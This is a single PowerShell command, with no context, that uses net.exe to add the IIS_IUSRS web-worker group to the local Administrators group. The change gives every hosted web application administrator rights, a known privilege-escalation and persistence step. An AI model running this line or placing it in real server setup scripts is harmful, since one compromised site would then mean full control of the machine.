Start-Process -FilePath net.exe -ArgumentList 'localgroup', 'Administrators', 'IIS_IUSRS', '/add' -Wait -NoNewWindow
